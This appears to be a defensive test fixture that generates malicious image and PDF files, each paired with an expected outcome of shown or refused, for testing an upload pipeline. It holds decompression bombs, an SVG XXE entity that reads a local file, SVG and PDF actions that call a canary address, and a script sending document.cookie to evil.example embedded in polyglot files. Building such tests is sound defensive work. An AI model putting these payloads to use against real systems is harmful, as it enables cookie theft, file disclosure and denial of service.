import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { document, lockedDocument, pdf } from './pdf.ts'
import { picture, pngChunk, pngHeader } from './samples.ts'

/** A file made to do harm, and what is to become of it: shown, refused with a reason, or either of the two. */
export type Nasty = {
  name: string
  make: () => Buffer | Promise<Buffer>
  outcome: 'shown' | 'refused' | 'either'
}

const text = (value: string): Buffer => Buffer.from(value, 'latin1')

const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'red' } })

/** A PNG of 8 x 8 with chunks of all kinds behind its header. */
const pngWith = async (...chunks: Buffer[]): Promise<Buffer> => {
  const png = await flat(8, 8).png().toBuffer()
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])
}

/** A JPEG with something behind its first two bytes. */
const jpegWith = async (inserted: Buffer): Promise<Buffer> => {
  const jpeg = await flat(64, 64).jpeg().toBuffer()
  return Buffer.concat([jpeg.subarray(0, 2), inserted, jpeg.subarray(2)])
}

const segment = (marker: number, content: Buffer): Buffer => {
  const head = Buffer.of(0xff, marker, 0, 0)
  head.writeUInt16BE(content.byteLength + 2, 2)
  return Buffer.concat([head, content])
}

/** A JPEG whose header announces a picture of any size. */
const jpegOf = async (width: number, height: number): Promise<Buffer> => {
  const jpeg = await flat(64, 64).jpeg().toBuffer()
  const frame = jpeg.indexOf(Buffer.of(0xff, 0xc0))
  jpeg.writeUInt16BE(height, frame + 5)
  jpeg.writeUInt16BE(width, frame + 7)
  return jpeg
}

/** A progressive JPEG that refines the same coefficients over and over. */
const jpegOfScans = async (repeated: number): Promise<Buffer> => {
  const jpeg = await sharp(await picture('png', 5000, 5000))
    .jpeg({ progressive: true })
    .toBuffer()
  const scan = jpeg.lastIndexOf(Buffer.of(0xff, 0xda))
  const last = jpeg.subarray(scan, jpeg.byteLength - 2)
  return Buffer.concat([jpeg.subarray(0, scan), ...Array<Buffer>(repeated).fill(last), Buffer.of(0xff, 0xd9)])
}

/** A GIF of a large screen, each of whose frames is as large and has one pixel. */
const gifOf = (width: number, height: number, frames: number): Buffer => {
  const screen = Buffer.from('474946383961000000008000000000ffffff00', 'hex')
  const frame = Buffer.from('21f90400010000002c000000000000000000' + '02024401' + '00', 'hex')
  for (const [bytes, at] of [
    [screen, 6],
    [frame, 13],
  ] as const) {
    bytes.writeUInt16LE(width, at)
    bytes.writeUInt16LE(height, at + 2)
  }
  return Buffer.concat([screen, ...Array<Buffer>(frames).fill(frame), Buffer.of(0x3b)])
}

/** A WebP whose header announces a canvas of any size. */
const webpOf = async (width: number, height: number): Promise<Buffer> => {
  const frames = [flat(8, 8), flat(8, 8)].map(frame => frame.png().toBuffer())
  const webp = await sharp(await Promise.all(frames), { join: { animated: true } })
    .webp()
    .toBuffer()
  const header = webp.indexOf('VP8X', 0, 'latin1') + 8
  webp.writeUIntLE(width - 1, header + 4, 3)
  webp.writeUIntLE(height - 1, header + 7, 3)
  return webp
}

const avifOf = async (width: number, height: number): Promise<Buffer> => {
  const avif = await flat(64, 64).avif().toBuffer()
  const size = avif.indexOf('ispe', 0, 'latin1') + 8
  avif.writeUInt32BE(width, size)
  avif.writeUInt32BE(height, size + 4)
  return avif
}

/** A PNG that moves, or says that it does. */
const apng = async (announced: number): Promise<Buffer> => {
  const control = Buffer.alloc(8)
  control.writeUInt32BE(announced, 0)
  const frame = Buffer.from('0000000000000008000000080000000000000000' + '0064' + '03e8' + '0000', 'hex')
  return pngWith(pngChunk('acTL', control), pngChunk('fcTL', frame))
}

const compressed = (keyword: string, bytes: number): Buffer =>
  Buffer.concat([text(`${keyword}\0\0`), deflateSync(Buffer.alloc(bytes), { level: 9 })])

const half = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.byteLength >> 1)

const HTML = '<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>'

/** Zeros, compressed over and over. */
const bomb = (bytes: number, rounds: number): Buffer => {
  let packed: Buffer = Buffer.alloc(bytes)
  for (let round = 0; round < rounds; round++) packed = deflateSync(packed, { level: 9 })
  return packed
}

const stream = (dictionary: string, content: string): string =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`

const page = (content: string, resources = '', more: string[] = []): Buffer =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << ${resources} >> >>`,
    stream('', content),
    ...more,
  ])

/** @param canary an address and a file that nobody may ask for */
export const nastyPictures = (canary: { url: string; path: string }): Nasty[] => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"
    onload="fetch('${canary.url}')"><script href="${canary.url}"/><image xlink:href="${canary.url}" width="99"
    height="99"/><image xlink:href="file://${canary.path}" width="99" height="99"/></svg>`
  const entities = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${canary.path}">]>${svg}`
  return [
    { name: 'no bytes', make: () => Buffer.alloc(0), outcome: 'refused' },
    { name: 'one byte', make: () => Buffer.of(0xff), outcome: 'refused' },
    { name: 'only the mark of a PNG', make: () => pngHeader(1, 1).subarray(0, 8), outcome: 'refused' },
    {
      name: 'a PNG of 50,000 x 50,000 in 60 bytes',
      make: () => pngHeader(50_000, 50_000),
      outcome: 'refused',
    },
    { name: 'a PNG of 2,147,483,647 x 1', make: () => pngHeader(2 ** 31 - 1, 1), outcome: 'refused' },
    { name: 'a PNG of no size', make: () => pngHeader(0, 0), outcome: 'refused' },
    { name: 'a PNG of 60,000 x 1,000', make: () => flat(60_000, 1_000).png().toBuffer(), outcome: 'refused' },
    { name: 'a PNG of 60,000 x 800', make: () => flat(60_000, 800).png().toBuffer(), outcome: 'shown' },
    {
      name: 'a PNG whose pixels unpack to 200 MB more than it has',
      make: () => pngWith(pngChunk('IDAT', deflateSync(Buffer.alloc(200_000_000)))),
      outcome: 'either',
    },
    {
      name: 'a PNG whose notes unpack to 400 MB',
      make: () => {
        const note = pngChunk('zTXt', compressed('Comment', 4_000_000))
        return pngWith(...Array<Buffer>(100).fill(note))
      },
      outcome: 'either',
    },
    {
      name: 'a PNG whose colour profile unpacks to 200 MB',
      make: () => pngWith(pngChunk('iCCP', compressed('profile', 200_000_000))),
      outcome: 'either',
    },
    { name: 'a PNG that moves', make: () => apng(1), outcome: 'shown' },
    { name: 'a PNG that says it has 2,147,483,647 frames', make: () => apng(2 ** 31 - 1), outcome: 'either' },
    { name: 'a JPEG of 65,535 x 65,535', make: () => jpegOf(65_535, 65_535), outcome: 'refused' },
    { name: 'a JPEG larger than it is', make: () => jpegOf(5_000, 5_000), outcome: 'either' },
    { name: 'a JPEG of 5,000 scans', make: () => jpegOfScans(5_000), outcome: 'either' },
    {
      name: 'a JPEG with 200 notes of 64 KB',
      make: () => jpegWith(Buffer.concat(Array<Buffer>(200).fill(segment(0xfe, Buffer.alloc(65_000, 'x'))))),
      outcome: 'shown',
    },
    {
      name: 'a JPEG whose EXIF goes round in circles',
      make: () =>
        jpegWith(
          segment(
            0xe1,
            Buffer.from(
              '457869660000' + '4d4d002a00000008' + '0001' + '8769000400000001' + '00000008' + '00000008',
              'hex',
            ),
          ),
        ),
      outcome: 'shown',
    },
    { name: 'a GIF of 65,535 x 65,535', make: () => gifOf(65_535, 65_535, 1), outcome: 'refused' },
    {
      name: 'a GIF of 7,000 x 7,000 with 3,000 frames',
      make: () => gifOf(7_000, 7_000, 3_000),
      outcome: 'either',
    },
    { name: 'a GIF of 200 x 200 with 1,000 frames', make: () => gifOf(200, 200, 1_000), outcome: 'either' },
    { name: 'a GIF without frames', make: () => gifOf(10, 10, 0), outcome: 'refused' },
    { name: 'a WebP of 16,384 x 16,384', make: () => webpOf(16_384, 16_384), outcome: 'refused' },
    { name: 'an AVIF of 60,000 x 60,000', make: () => avifOf(60_000, 60_000), outcome: 'refused' },
    ...(['jpeg', 'png', 'webp', 'gif', 'avif'] as const).map(
      (format): Nasty => ({
        name: `half of a ${format}`,
        make: async () => half(await picture(format, 600, 600)),
        outcome: 'refused',
      }),
    ),
    { name: 'an SVG with script and addresses', make: () => text(svg), outcome: 'refused' },
    { name: 'an SVG that asks for a file', make: () => text(entities), outcome: 'refused' },
    { name: 'a packed SVG', make: () => gzipSync(svg), outcome: 'refused' },
    { name: 'an SVG behind the mark of a GIF', make: () => text(`GIF89a${svg}`), outcome: 'refused' },
    { name: 'a TIFF', make: () => flat(9, 9).tiff().toBuffer(), outcome: 'refused' },
    { name: 'a PPM', make: () => text('P3 1 1 255 255 0 0'), outcome: 'refused' },
    {
      name: 'a picture of ImageMagick',
      make: () => text(`push graphic-context\nimage over 0,0 0,0 '${canary.url}'`),
      outcome: 'refused',
    },
    { name: 'text', make: () => text('not a picture at all'), outcome: 'refused' },
    {
      name: 'a zip named .jpg',
      make: () =>
        Buffer.from('504b0304140000000000000021000000000000000000000000000100000061504b0506', 'hex'),
      outcome: 'refused',
    },
    {
      name: 'a JPEG that is a zip and a page as well',
      make: async () => Buffer.concat([await jpegWith(segment(0xfe, text(HTML))), text(`PK\x03\x04${HTML}`)]),
      outcome: 'shown',
    },
    {
      name: 'a PNG that is a page as well',
      make: () => pngWith(pngChunk('tEXt', text(`Comment\0${HTML}`))),
      outcome: 'shown',
    },
    {
      name: 'a GIF that is a script as well',
      make: async () => Buffer.concat([await picture('gif', 9, 9), text(`*/=1;alert(1)`)]),
      outcome: 'shown',
    },
    {
      name: 'a PDF that is a page as well',
      make: () => document({ catalog: `/Note (${HTML})` }),
      outcome: 'shown',
    },
    {
      name: 'a PDF with script that never ends',
      make: () => document({ catalog: '/OpenAction << /S /JavaScript /JS (while \\(true\\) {}) >>' }),
      outcome: 'shown',
    },
    {
      name: 'a PDF that opens addresses and programs',
      make: () =>
        document({
          catalog: `/OpenAction << /S /URI /URI (${canary.url}) >> /AA << /WC << /S /Launch /F (${canary.path}) >> >>`,
          page: `/AA << /O << /S /GoToR /F (${canary.path}) /D [0 /Fit] >> >>`,
        }),
      outcome: 'shown',
    },
    {
      name: 'a PDF whose picture is another file',
      make: () =>
        page('600 0 0 800 0 0 cm /I Do', '/XObject << /I 5 0 R >>', [
          stream(
            `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (${canary.path})`,
            '',
          ),
        ]),
      outcome: 'shown',
    },
    { name: 'a PDF behind a password', make: lockedDocument, outcome: 'shown' },
    { name: 'a PDF of 1,000 pages', make: () => document({ pages: 1_000 }), outcome: 'shown' },
    {
      name: 'a PDF of 1,000,000,000 x 1 points',
      make: () => document({ size: '1000000000 1' }),
      outcome: 'either',
    },
    { name: 'a PDF whose page has no size', make: () => document({ size: '0 0' }), outcome: 'either' },
    { name: 'half of a PDF', make: () => half(document()), outcome: 'refused' },
    { name: 'only the mark of a PDF', make: () => text('%PDF-1.7\n'), outcome: 'refused' },
    {
      name: 'a PDF without pages',
      make: () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>']),
      outcome: 'refused',
    },
    {
      name: 'a PDF that says it has 2,000,000,000 pages',
      make: () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 2000000000 /Kids [] >>']),
      outcome: 'refused',
    },
    {
      name: 'a PDF whose pages go round in circles',
      make: () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
      outcome: 'refused',
    },
    {
      name: 'a PDF whose drawing unpacks to 100 MB',
      make: () =>
        pdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>',
          stream('/Filter [/FlateDecode /FlateDecode /FlateDecode]', bomb(100_000_000, 3).toString('latin1')),
        ]),
      outcome: 'either',
    },
    {
      name: 'a PDF with a picture of 100,000 x 100,000',
      make: () =>
        page('600 0 0 800 0 0 cm /I Do', '/XObject << /I 5 0 R >>', [
          stream(
            '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
            bomb(50_000_000, 1).toString('latin1'),
          ),
        ]),
      outcome: 'either',
    },
    {
      name: 'a PDF with a drawing in itself',
      make: () =>
        page('/X Do', '/XObject << /X 5 0 R >>', [
          stream(
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
            '/X Do /X Do /X Do',
          ),
        ]),
      outcome: 'either',
    },
    {
      name: 'a PDF that draws ten times in each of ten drawings',
      make: () =>
        page(
          '/X Do',
          '/XObject << /X 5 0 R >>',
          Array.from({ length: 10 }, (_, depth) =>
            stream(
              `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X ${depth + 6} 0 R >> >>`,
              depth === 9 ? '0 0 600 800 re f' : '/X Do '.repeat(10),
            ),
          ),
        ),
      outcome: 'either',
    },
    { name: 'a PDF of brackets', make: () => page(`${'['.repeat(2_000_000)}`), outcome: 'either' },
    {
      name: 'a PDF that saves its state a million times',
      make: () => page('q '.repeat(1_000_000)),
      outcome: 'either',
    },
  ]
}
